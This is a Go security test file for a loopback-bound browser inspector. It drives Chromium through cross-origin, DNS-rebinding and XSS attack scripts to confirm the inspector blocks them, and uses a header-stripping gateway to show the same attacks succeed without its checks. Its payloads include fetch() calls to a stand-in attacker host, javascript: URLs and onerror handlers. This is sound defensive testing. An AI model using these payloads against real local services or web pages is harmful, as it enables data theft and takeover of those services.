package chromium

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
)

// The browser resolves these names to this machine (host-resolver-rules): the page of an
// attacker, and a name that was rebound to the address of the inspector.
const (
	evil    = "evil.attacker.example"
	rebound = "rebound.attacker.example"
)

// gateway is between the browser and an inspector, and counts requests. If it is closed, it
// passes all requests and answers on unchanged. If it is open, it is the inspector without its
// checks: it changes each request so that the checks accept it, and any page may use each
// answer.
type gateway struct {
	*httptest.Server
	open bool

	mu       sync.Mutex
	asked    int      // the number of requests of the attack
	admitted []string // the requests that the inspector did not refuse
}

func newGateway(t *testing.T, address string, open bool) *gateway {
	t.Helper()
	inner, err := url.Parse(address)
	if err != nil {
		t.Fatal(err)
	}
	g := &gateway{open: open}
	proxy := &httputil.ReverseProxy{
		FlushInterval: -1,
		Rewrite: func(r *httputil.ProxyRequest) {
			r.Out.URL.Scheme, r.Out.URL.Host, r.Out.Host = "http", inner.Host, r.In.Host
			if open {
				g.mend(r.Out, inner)
			}
		},
		ModifyResponse: g.count,
	}
	g.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.URL.Path == "/attack": // the attacker's page before its name was rebound
			fmt.Fprint(w, "<!doctype html><title>attack</title><body>")
		case open && r.Method == http.MethodOptions:
			allowAll(w.Header(), r)
		case r.URL.Path != "/favicon.ico":
			proxy.ServeHTTP(w, r)
		}
	}))
	t.Cleanup(func() {
		g.CloseClientConnections() // a window that an attack has opened follows the events
		g.Close()
	})
	return g
}

// mend changes a request so that the checks accept it.
func (g *gateway) mend(r *http.Request, inner *url.URL) {
	r.Host = inner.Host
	for name := range r.Header {
		if strings.HasPrefix(name, "Sec-") || name == "Origin" || name == "Connection" || name == "Upgrade" {
			r.Header.Del(name)
		}
	}
	if r.Method == http.MethodPost {
		r.Header.Set("Content-Type", "application/json")
	}
}

func (g *gateway) count(resp *http.Response) error {
	r := resp.Request
	g.mu.Lock()
	g.asked++
	if resp.StatusCode != http.StatusForbidden {
		g.admitted = append(g.admitted, r.Method+" "+resp.Status)
	}
	g.mu.Unlock()
	if g.open {
		for _, name := range []string{"Content-Security-Policy", "X-Frame-Options", "Cross-Origin-Opener-Policy", "Cross-Origin-Resource-Policy", "Cross-Origin-Embedder-Policy", "X-Content-Type-Options"} {
			resp.Header.Del(name)
		}
		allowAll(resp.Header, r)
	}
	return nil
}

func allowAll(h http.Header, r *http.Request) {
	h.Set("Access-Control-Allow-Origin", "*")
	h.Set("Access-Control-Allow-Headers", "content-type")
	h.Set("Access-Control-Allow-Methods", "GET, POST")
}

func (g *gateway) counts() (asked int, admitted []string) {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.asked, append([]string(nil), g.admitted...)
}

// attack is a script on a page of another origin. In it, target is the address of the
// inspector's page with its token, which the attacker has learned, and rebound the same address
// with the attacker's name.
type attack struct {
	name, from, script string
}

// These are the pages that attacks come from.
const (
	fromEvil    = "a page with a name of its own"
	fromPort    = "a page on another port of this machine"
	fromRebound = "a page whose name was rebound"
)

func attacks() []attack {
	list := []attack{
		{"rebinding with an Origin", fromRebound, `fetch(rebound + "ask", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"refresh":true}' })`},
		{"rebinding without an Origin", fromRebound, `fetch(rebound + "waterfall")`},
		{"rebinding and the page itself", fromRebound, `location = rebound`},
		{"rebinding and events", fromRebound, `new EventSource(rebound + "events")`},
		{"rebinding and a script", fromRebound, `add("script", { src: rebound + "app/dom.js", type: "module" })`},
	}
	for _, from := range []string{fromEvil, fromPort} {
		list = append(list,
			attack{"fetch, as JSON", from, `fetch(target + "ask", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"refresh":true}' })`},
			attack{"fetch, as text", from, `fetch(target + "ask", { method: "POST", mode: "no-cors", body: '{"refresh":true}' })`},
			attack{"fetch of an answer", from, `fetch(target + "waterfall")`},
			attack{"a beacon", from, `navigator.sendBeacon(target + "ask", '{"refresh":true}')`},
			attack{"a form", from, `form("POST", target + "ask")`},
			attack{"a form with GET", from, `form("GET", target)`},
			attack{"a script element", from, `add("script", { src: target + "app/dom.js" })`},
			attack{"a module", from, `add("script", { src: target + "app/dom.js", type: "module" })`},
			attack{"a style sheet", from, `add("link", { rel: "stylesheet", href: target + "app/style.css" })`},
			attack{"an image", from, `add("img", { src: target + "waterfall" })`},
			attack{"an iframe", from, `add("iframe", { src: target })`},
			attack{"a sandboxed iframe without an origin", from, `add("iframe", { sandbox: "allow-scripts", srcdoc: "<script>fetch('" + target + "waterfall', { mode: 'no-cors' })</" + "script>" })`},
			attack{"an object", from, `add("object", { data: target })`},
			attack{"a window", from, `open(target)`},
			attack{"a navigation", from, `location = target`},
			attack{"events", from, `new EventSource(target + "events")`},
			attack{"a WebSocket", from, `new WebSocket(target.replace("http", "ws") + "events")`},
			attack{"a prefetch", from, `add("link", { rel: "prefetch", href: target })`},
		)
	}
	return list
}

const attackTools = `
	const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
	const form = (method, action) => {
		add("iframe", { name: "sink" });
		add("form", { method, action, target: "sink", enctype: "text/plain" });
		const field = document.createElement("input");
		Object.assign(field, { name: '{"refresh":true,"', value: '":0}' });
		document.forms[0].append(field);
		document.forms[0].submit();
	};
`

// run makes an attack through a gateway and waits for its requests.
func (a attack) run(t *testing.T, g *gateway, token string) (asked int, admitted []string) {
	t.Helper()
	_, port, err := net.SplitHostPort(g.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	blank := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, "<!doctype html><title>attack</title><body>")
	}))
	t.Cleanup(blank.Close)
	_, other, err := net.SplitHostPort(blank.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	page := map[string]string{fromEvil: "http://" + evil + ":" + other + "/", fromPort: "http://127.0.0.1:" + other + "/", fromRebound: "http://" + rebound + ":" + port + "/attack"}[a.from]
	ctx, _ := emptyTab(t)
	do(t, ctx, chromedp.Navigate(page))
	script := fmt.Sprintf("{ const target = %q, rebound = %q; %s; void (%s); }", "http://127.0.0.1:"+port+"/"+token+"/", "http://"+rebound+":"+port+"/"+token+"/", attackTools, a.script)
	limited, end := context.WithTimeout(ctx, patience)
	defer end()
	_, _ = chromedp.Run(limited, chromedp.Evaluate[any](script, func(p *runtime.EvaluateParams) { yes := true; p.UserGesture = &yes })) // a navigation ends it
	for end := time.Now().Add(3 * time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		if asked, _ := g.counts(); asked > 0 {
			break
		}
	}
	time.Sleep(100 * time.Millisecond) // for further requests of the same attack
	return g.counts()
}

// No page of another origin gets anything from the inspector or controls it, even if the
// attacker has the token. Each attack succeeds against the inspector without its checks.
func TestAttacks(t *testing.T) {
	address := inspect(t, "shop.example")
	u, err := url.Parse(address)
	if err != nil {
		t.Fatal(err)
	}
	token := strings.Trim(u.Path, "/")
	own := newGateway(t, address, false)
	shows(t, tab(t, own.URL+u.Path), "#state", "answered") // the gateway does not stop our own page
	if _, admitted := own.counts(); len(admitted) < 10 {
		t.Errorf("of our own page %q is let in", admitted)
	}
	for _, a := range attacks() {
		t.Run(a.name+" of "+a.from, func(t *testing.T) {
			asked, admitted := a.run(t, newGateway(t, address, false), token)
			if len(admitted) != 0 {
				t.Errorf("%d hits: %q", len(admitted), admitted)
			}
			if asked == 0 {
				t.Error("no request came, so this test shows nothing")
			}
			if _, admitted := a.run(t, newGateway(t, address, true), token); len(admitted) == 0 {
				t.Error("without the checks it does not hit, so this test shows nothing")
			}
		})
	}
}

// The inspector listens only on 127.0.0.1.
func TestBoundToLoopback(t *testing.T) {
	u, err := url.Parse(inspect(t, "shop.example"))
	if err != nil {
		t.Fatal(err)
	}
	if got := listening(t, u.Port()); len(got) != 1 || got[0] != "0100007F" {
		t.Errorf("it listens on %q", got)
	}
	wildcard, err := net.Listen("tcp", ":0") // only this namespace can reach it
	if err != nil {
		t.Fatal(err)
	}
	defer wildcard.Close()
	_, port, err := net.SplitHostPort(wildcard.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	if got := listening(t, port); len(got) != 1 || strings.Trim(got[0], "0") != "" {
		t.Errorf("a wildcard is seen as %q", got)
	}
}

// listening returns the local addresses of the sockets that listen on a port, in the
// hexadecimal digits of proc_net_tcp(5).
func listening(t *testing.T, port string) (addresses []string) {
	t.Helper()
	n, err := strconv.ParseUint(port, 10, 16)
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range []string{"/proc/self/net/tcp", "/proc/self/net/tcp6"} {
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(string(text)) {
			fields := strings.Fields(line)
			if len(fields) < 4 || fields[3] != "0A" {
				continue
			}
			if address, ok := strings.CutSuffix(fields[1], fmt.Sprintf(":%04X", n)); ok {
				addresses = append(addresses, address)
			}
		}
	}
	return addresses
}

// Scripts in documents do not run in any view: no request leaves the page, and the page does
// not navigate.
func TestScriptsInDocuments(t *testing.T) {
	var mu sync.Mutex
	var loot []string
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if r.URL.Path != "/favicon.ico" && r.URL.Path != "/" {
			loot = append(loot, r.URL.Path)
		}
		w.Header().Set("Content-Type", "text/html")
	}))
	t.Cleanup(attacker.Close)
	_, port, err := net.SplitHostPort(attacker.Listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	steal := "http://" + evil + ":" + port
	payload := `<img src=` + steal + `/image onerror=fetch('` + steal + `/error')><script>fetch('` + steal + `/script')</script><svg onload=fetch('` + steal + `/svg')><a href=javascript:fetch('` + steal + `/link')>click</a><style>@import '` + steal + `/style';</style>`
	sites, stop, err := serveSites("serve", recordingOf(t, payload, steal))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	address := inspectAmong(t, sites, "evil.example")
	ctx := tab(t, address)
	shows(t, ctx, "#state", "answered")
	var seen strings.Builder
	for n, view := range views {
		do(t, ctx, chromedp.KeyEvent(fmt.Sprint(n+1)))
		opened(t, ctx, view)
		value[any](t, ctx, `document.querySelectorAll("#view summary, #view .row").forEach((e) => e.click())`)
		time.Sleep(200 * time.Millisecond)
		seen.WriteString(value[string](t, ctx, `document.getElementById("view").innerText`))
		if n := value[int](t, ctx, `document.querySelectorAll("#view img, #view script, #view style, #view a[href], #view iframe").length`); n != 0 {
			t.Errorf("%s has %d elements that a document could have made", view, n)
		}
	}
	if at := value[string](t, ctx, `location.href.split("#")[0]`); at != address {
		t.Errorf("the page is at %s", at)
	}
	if !strings.Contains(seen.String(), "<script>") {
		t.Errorf("no view shows the text, so this test shows nothing:\n%s", seen.String())
	}
	mu.Lock()
	if len(loot) != 0 {
		t.Errorf("the attacker got %q", loot)
	}
	mu.Unlock()

	// The same text as markup, on a page without our policy, reaches the attacker.
	naive, _ := emptyTab(t)
	do(t, naive, chromedp.Navigate(steal+"/"))
	value[any](t, naive, fmt.Sprintf(`document.body.innerHTML = %q`, payload))
	for end := time.Now().Add(patience); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		mu.Lock()
		n := len(loot)
		mu.Unlock()
		if n >= 2 {
			return
		}
	}
	t.Error("the text does nothing as markup either, so this test shows nothing")
}

// recordingOf writes a recording of evil.example. The texts of its documents contain a payload
// and a link to an address.
func recordingOf(t *testing.T, payload, steal string) (dir string) {
	t.Helper()
	dir = t.TempDir()
	text := strconv.Quote("Sells things. " + payload)
	manifest := `{"spec_version": "1.0", "name": ` + text + `, "description": ` + text + `, "base_url": "https://evil.example",
		"auth": {"type": "api_key", "header": "Authorization", "setup_url": "javascript:fetch('` + steal + `/setup')"},
		"capabilities": [{"name": "buy", "description": ` + text + `, "detail_url": "/detail"}, {"name": "img src=x onerror=alert(1)", "description": ` + text + `, "detail_url": "javascript:alert(1)"}]}`
	page := "# Shop\n\nIt sells shoes. " + payload + "\n\n![picture](" + steal + "/markdown)\n[link](javascript:fetch('" + steal + "/mdlink'))\n\n## Can\n\n- Sell shoes " + payload + "\n"
	for name, content := range map[string]string{
		"index.txt":                   "wayfind recording 1\nhttps://evil.example/.well-known/agent evil.example/agent.http\nhttps://evil.example/agents.md evil.example/agents.md.http\n",
		"evil.example/agent.http":     "HTTP/1.1 200 OK\nContent-Type: application/json\nRefresh: 0; url=" + steal + "/refresh\nLink: <" + steal + "/header>; rel=preload; as=script\n\n" + manifest,
		"evil.example/agents.md.http": "HTTP/1.1 200 OK\nContent-Type: text/markdown\n\n" + page,
	} {
		file := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}
